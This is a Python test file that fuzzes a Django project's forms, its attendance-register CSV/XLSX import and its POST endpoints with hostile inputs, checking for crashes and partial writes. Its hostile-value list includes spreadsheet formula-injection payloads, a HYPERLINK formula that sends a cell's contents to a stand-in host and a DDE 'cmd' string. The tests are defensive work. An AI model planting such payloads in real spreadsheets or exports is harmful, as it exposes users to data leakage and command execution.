"""Hypothesis feeds every form of the project and the register import hostile values
(issue 8, "Fuzz"): long text, control characters, NUL, huge and negative numbers, odd
dates, formula prefixes, wrong encodings, broken zips. Never an exception (a 500), never
partial data, never a control character in what a form accepts.

The forms are discovered by walking the apps' modules, so a new form is fuzzed too (and
must use ``stemnet.forms.SafeInputMixin``)."""

import importlib
import inspect
import io
import pkgutil
import zipfile

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from academies.imports import COLUMNS, ImportFileError, ImportRejected, import_attendance, iter_file
from academies.models import Activity, Attendance, Participant, Series, Session
from stemnet.forms import SafeInputMixin
from stemnet.validation import has_control_characters
from tests.factories import make_admin
from tests.factories.activities import recognised_academy, register_rows, to_csv

APPS = ("stemnet", "academies", "subsidies", "partnerships", "reporting", "portal")

HOSTILE_TEXT = st.one_of(
    st.text(max_size=30),
    st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=10),  # control characters
    st.sampled_from(
        [
            "",
            "\x00",
            "a\x00b",
            "Natuurlabo\x0bMerelbeke",
            '=HYPERLINK("http://x/?"&C2,"x")',
            "+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "-1",
            "9" * 30,
            "1e400",
            "-99999999999999999999",
            "NaN",
            "0001-01-01",
            "9999-12-31",
            "2026-02-30",
            "24:00",
            "x" * 5000,
            "\ud7ff\ue000",
            "١٢٣٤",
        ]
    ),
)


def _project_forms():
    found = {}
    for app in APPS:
        package = importlib.import_module(app)
        modules = [package]
        if hasattr(package, "__path__"):
            for info in pkgutil.walk_packages(package.__path__, prefix=f"{app}."):
                if ".migrations" in info.name or ".management" in info.name:
                    continue
                if info.name.endswith(("settings", "wsgi", "asgi", "celery")):
                    continue
                modules.append(importlib.import_module(info.name))
        for module in modules:
            for _name, obj in inspect.getmembers(module, inspect.isclass):
                if (
                    issubclass(obj, forms.BaseForm)
                    and obj.__module__.split(".")[0] in APPS
                    and obj.__module__ == module.__name__
                ):
                    found[f"{obj.__module__}.{obj.__qualname__}"] = obj
    return found


FORMS = _project_forms()


def test_the_walk_finds_the_forms():
    names = {name.rsplit(".", 1)[1] for name in FORMS}
    assert {"ParticipantForm", "SeriesForm", "AcademyForm", "ParametersForm"} <= names
    assert len(FORMS) >= 18


@pytest.mark.parametrize("name", sorted(FORMS))
def test_every_form_refuses_control_characters(name):
    assert issubclass(FORMS[name], SafeInputMixin), f"{name} must mix in SafeInputMixin"


def _instantiate(form_class, data, files):
    parameters = inspect.signature(form_class.__init__).parameters
    extra = {}
    if "series" in parameters:
        from academies.models import Series as SeriesModel

        extra["series"] = SeriesModel.objects.select_related("activity").first()
    return form_class(data=data, files=files, **extra)


FUZZ_EXAMPLES = 15


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(FORMS))
def test_every_form_survives_hostile_data(name, municipalities):
    form_class = FORMS[name]
    academy = recognised_academy()
    import_attendance(actor=None, academy=academy, rows=register_rows(1, 1))
    field_names = list(_instantiate(form_class, None, None).fields)

    @settings(
        max_examples=FUZZ_EXAMPLES,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(st.fixed_dictionaries({f: HOSTILE_TEXT for f in field_names}))
    def check(data):
        files = {
            f: SimpleUploadedFile("x.csv", v.encode("utf-8", "replace")) for f, v in data.items()
        }
        form = _instantiate(form_class, data, files)
        if form.is_valid():
            for value in form.cleaned_data.values():
                if isinstance(value, str):
                    assert not has_control_characters(value, multiline=True), (name, value)
                    assert "\x00" not in value

    check()


IMPORT_EXAMPLES = 60


def _xlsx(rows) -> bytes:
    from stemnet.exports import write_xlsx

    return write_xlsx(([r.get(c, "") for c in COLUMNS] for r in rows), COLUMNS, "r")


HOSTILE_ROWS = st.lists(
    st.fixed_dictionaries({c: HOSTILE_TEXT for c in COLUMNS}), min_size=1, max_size=3
)


def _counts():
    return tuple(m.objects.count() for m in (Activity, Series, Session, Participant, Attendance))


@pytest.mark.django_db
def test_the_import_survives_hostile_rows_and_writes_all_or_nothing(municipalities):
    academy = recognised_academy()
    good = register_rows(1, 2)
    ran = {"n": 0}

    @settings(
        max_examples=IMPORT_EXAMPLES,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(HOSTILE_ROWS, st.sampled_from(["csv", "xlsx"]))
    def check(bad, fmt):
        ran["n"] += 1
        rows = good + bad
        content = to_csv(rows) if fmt == "csv" else _xlsx(rows)
        before = _counts()
        try:
            import_attendance(
                actor=None, academy=academy, rows=iter_file(io.BytesIO(content), f"r.{fmt}")
            )
        except (ImportRejected, ImportFileError):
            assert _counts() == before  # refused: nothing written

    check()
    assert ran["n"] == IMPORT_EXAMPLES


BROKEN_FILES = st.one_of(
    st.binary(max_size=200),
    st.binary(max_size=200).map(lambda b: b"PK\x03\x04" + b),
    st.builds(
        lambda names, data: _zip({n: data for n in names}),
        st.lists(
            st.sampled_from(
                ["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "x"]
            ),
            max_size=3,
        ),
        st.binary(max_size=100),
    ),
    st.text(max_size=200).map(lambda t: (",".join(COLUMNS) + "\n" + t).encode("utf-16")),
    st.text(max_size=200).map(lambda t: (",".join(COLUMNS) + "\n" + t).encode("utf-8")),
)


def _zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.django_db
def test_broken_files_never_raise_anything_but_a_refusal(municipalities):
    academy = recognised_academy()

    @settings(
        max_examples=IMPORT_EXAMPLES,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(BROKEN_FILES, st.sampled_from(["csv", "xlsx"]))
    def check(content, fmt):
        try:
            import_attendance(
                actor=None, academy=academy, rows=iter_file(io.BytesIO(content), f"r.{fmt}")
            )
        except (ImportRejected, ImportFileError):
            pass
        assert _counts() == (0, 0, 0, 0, 0)

    check()


VIEW_EXAMPLES = 8


@pytest.mark.django_db
def test_the_main_post_endpoints_never_answer_500(client, municipalities):
    """Through the views with the test client: the register's forms and the import."""
    academy = recognised_academy()
    import_attendance(actor=None, academy=academy, rows=register_rows(1, 1))
    series = Series.objects.select_related("activity").get()
    session = Session.objects.get()
    participant = Participant.objects.get()
    client.force_login(make_admin(academy))
    client.raise_request_exception = True
    endpoints = [
        (
            reverse("academies:activities", args=[academy.pk]),
            ["code", "title", "description", "min_age", "max_age", "format"],
        ),
        (
            reverse("academies:activity", args=[academy.pk, series.activity.pk]),
            [
                "code",
                "place",
                "venue",
                "start_date",
                "end_date",
                "weekdays",
                "start_time",
                "end_time",
            ],
        ),
        (
            reverse("academies:series_edit", args=[academy.pk, series.pk]),
            ["place", "venue", "start_date", "end_date"],
        ),
        (
            reverse("academies:series_add_participant", args=[academy.pk, series.pk]),
            ["p-ref", "p-birth_year", "p-residence_postal_code"],
        ),
        (
            reverse("academies:series_add_session", args=[academy.pk, series.pk]),
            ["s-date", "s-start_time", "s-end_time"],
        ),
        (
            reverse("academies:session_edit", args=[academy.pk, session.pk]),
            ["date", "start_time", "end_time"],
        ),
        (
            reverse("academies:participant_edit", args=[academy.pk, participant.pk]),
            ["birth_year", "residence_postal_code"],
        ),
        (
            reverse("academies:edit", args=[academy.pk]),
            [
                "name",
                "enterprise_number",
                "street",
                "postal_code",
                "email",
                "iban",
                "min_age",
                "max_age",
            ],
        ),
    ]
    import_url = reverse("academies:import", args=[academy.pk])
    posted = {"n": 0}

    @settings(
        max_examples=VIEW_EXAMPLES,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(st.data())
    def check(data):
        for url, fields in endpoints:
            values = {f: data.draw(HOSTILE_TEXT) for f in fields}
            values = {
                f: v.replace("\x00", "") if data.draw(st.booleans()) else v
                for f, v in values.items()
            }
            response = client.post(url, values)
            assert response.status_code in (200, 302, 400), (url, response.status_code)
            posted["n"] += 1
        content = data.draw(BROKEN_FILES)
        name = data.draw(st.sampled_from(["r.csv", "r.xlsx"]))
        before = _counts()
        response = client.post(import_url, {"file": SimpleUploadedFile(name, content)})
        assert response.status_code in (200, 302)
        assert _counts() == before
        posted["n"] += 1

    check()
    assert posted["n"] == VIEW_EXAMPLES * (len(endpoints) + 1)
